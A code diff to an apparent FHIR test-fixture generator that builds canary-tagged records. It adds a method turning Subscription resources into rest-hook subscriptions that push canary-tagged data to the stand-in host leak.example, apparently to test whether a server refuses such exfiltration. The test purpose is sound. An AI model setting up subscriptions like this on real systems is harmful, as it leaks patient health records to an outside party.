@@ -48,7 +48,20 @@ internal sealed class RecordMaker(string patient, string canary, int variant)
             ["tag"] = new JsonArray(new JsonObject { ["system"] = System, ["code"] = $"{canary}-tag", ["display"] = Secret }),
         };
         Fill(resource, R4Definitions.Type(type)!, depth: 0);
+        if (type == "Subscription") Told(resource);
         return resource;
+    }
+
+    /// <summary>One that the server could tell, and does not: what it cannot tell is refused.</summary>
+    private void Told(JsonObject subscription)
+    {
+        subscription["status"] = "off";
+        subscription["criteria"] = $"Basic?_tag={canary}-tag";
+        subscription.Remove("error");
+        subscription["channel"] = new JsonObject
+        {
+            ["type"] = "rest-hook", ["endpoint"] = $"https://leak.example/{canary}", ["payload"] = "application/fhir+json",
+        };
     }
 
     private void Fill(JsonObject target, TypeDefinition type, int depth)
@@ -147,6 +160,7 @@ internal sealed class RecordMaker(string patient, string canary, int variant)
     {
         var resource = new JsonObject { ["resourceType"] = type };
         Fill(resource, R4Definitions.Type(type)!, Deepest);
+        if (type == "Subscription") Told(resource);
         if (type == "Provenance") resource["signature"] = new JsonArray(Filled(R4Definitions.Type("Signature")!, Deepest));
         return resource;
     }
